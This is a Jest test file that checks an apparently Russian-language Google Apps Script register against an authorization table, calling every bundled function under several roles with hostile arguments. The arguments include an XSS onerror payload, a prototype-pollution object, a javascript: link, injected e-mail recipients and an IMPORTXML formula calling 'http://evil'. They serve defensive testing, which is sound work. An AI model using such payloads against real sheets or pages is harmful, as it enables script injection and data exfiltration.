/**
 * The authorization table (test/gas/authorizationTable.ts) against the built bundle: EVERY top-level
 * function of build/Code.js is called with hostile arguments as the owner, a coordinator, a department user
 * and a user with an empty e-mail (a simple trigger, a consumer account of another domain). A role the
 * table refuses must leave no trace: no letter, no change in «Реестр» or «Настройки», no trigger. No global
 * may throw on hostile arguments. A global without a row fails here.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Runtime } from '../../dev/runtime';
import { AUTHORIZATION_TABLE, type Role } from './authorizationTable';
import { CLERK, COORDINATOR, OWNER, createRegisterRuntime, pageRow, sheetValues } from './registerRuntime';

const USERS: Record<Role, string> = { owner: OWNER, coordinator: COORDINATOR, department: CLERK, noEmail: '' };

const GLOBALS = [
  ...readFileSync(join(__dirname, '..', '..', 'build', 'Code.js'), 'utf8').matchAll(/^function ([A-Za-z_$][\w$]*)\(/gm),
].map((match) => match[1]!);

interface Trigger {
  id: string;
  handler: string;
  owner: string;
}

const triggers = (rt: Runtime) =>
  (rt.services.ScriptApp as unknown as { triggers: Trigger[] }).triggers.map((t) => `${t.id}:${t.handler}:${t.owner}`);

/** Hostile arguments: none, a forged trigger event, markup and a polluted prototype, an event and a page of junk. */
function hostileArguments(rt: Runtime): unknown[][] {
  const realTrigger = (rt.services.ScriptApp as unknown as { triggers: Trigger[] }).triggers.find(
    (trigger) => trigger.handler === 'dailyCheck',
  );
  return [
    [],
    [{ triggerUid: realTrigger?.id ?? '1' }],
    ['<img src=x onerror=alert(1)>', JSON.parse('{"__proto__": {"polluted": true}}'), -1],
    [{ range: null, value: '=IMPORTXML("http://evil","//a")', source: null, user: 'x' }],
    [
      {
        organization: 'Я'.repeat(50_000),
        link: 'javascript:alert(1)',
        responsibleEmail: 'a@evil.example.com,b@evil.example.com',
        createdOn: '2099-01-01',
      },
      'request-1',
      { id: 'P-forged' },
    ],
  ];
}

/** A set-up register with overdue rows and ЦУР events pending, the daily check on (by the coordinator). */
function preparedRuntime(): Runtime {
  const rt = createRegisterRuntime({
    today: '2026-01-20',
    rows: [
      pageRow('P1', { createdOn: '2026-01-12', responsibleEmail: 'ivanov@shpakovsky.example.ru' }),
      pageRow('P2', { createdOn: '2026-01-15', deptReportedCreation: '2026-01-15' }),
    ],
    settings: { sendSummaryAutomatically: true },
    user: OWNER,
  });
  rt.menu('menuSetup', OWNER);
  rt.menu('menuDailyCheckOn', COORDINATOR);
  return rt;
}

interface Trace {
  mail: number;
  register: string;
  settings: string;
  triggers: string;
}

function trace(rt: Runtime): Trace {
  return {
    mail: rt.mail.length,
    register: JSON.stringify(sheetValues(rt, 'Реестр')),
    settings: JSON.stringify(sheetValues(rt, 'Настройки')),
    triggers: triggers(rt).join(','),
  };
}

describe('the authorization table', () => {
  it('has a row for every top-level function of build/Code.js, and no row for a function that is not there', () => {
    expect(GLOBALS.length).toBeGreaterThan(10);
    expect(GLOBALS.filter((name) => !(name in AUTHORIZATION_TABLE))).toEqual([]);
    expect(Object.keys(AUTHORIZATION_TABLE).filter((name) => !GLOBALS.includes(name))).toEqual([]);
  });

  describe.each(Object.keys(USERS) as Role[])('as %s', (role) => {
    let rt: Runtime;
    beforeAll(() => {
      rt = preparedRuntime();
    });

    it.each(GLOBALS)('%s', (name) => {
      const verdict = AUTHORIZATION_TABLE[name]?.[role];
      for (const args of hostileArguments(rt)) {
        const before = trace(rt);
        const alerts = rt.ui.alerts.length;
        let result: unknown;
        expect(() => {
          result = rt.runAs({ kind: 'editor', user: USERS[role] }, () =>
            (rt.bundle[name] as (...values: unknown[]) => unknown)(...args),
          );
        }).not.toThrow();
        expect(Object.prototype).not.toHaveProperty('polluted');
        if (verdict === 'refused') {
          expect({ name, args: JSON.stringify(args).slice(0, 80), trace: trace(rt) }).toEqual({
            name,
            args: JSON.stringify(args).slice(0, 80),
            trace: before,
          });
          const said =
            JSON.stringify(result ?? null) +
            rt.ui.alerts
              .slice(alerts)
              .map((alert) => alert.prompt)
              .join('\n');
          expect(said).toMatch(/[А-Яа-яЁё]/);
        }
      }
    });
  });
});
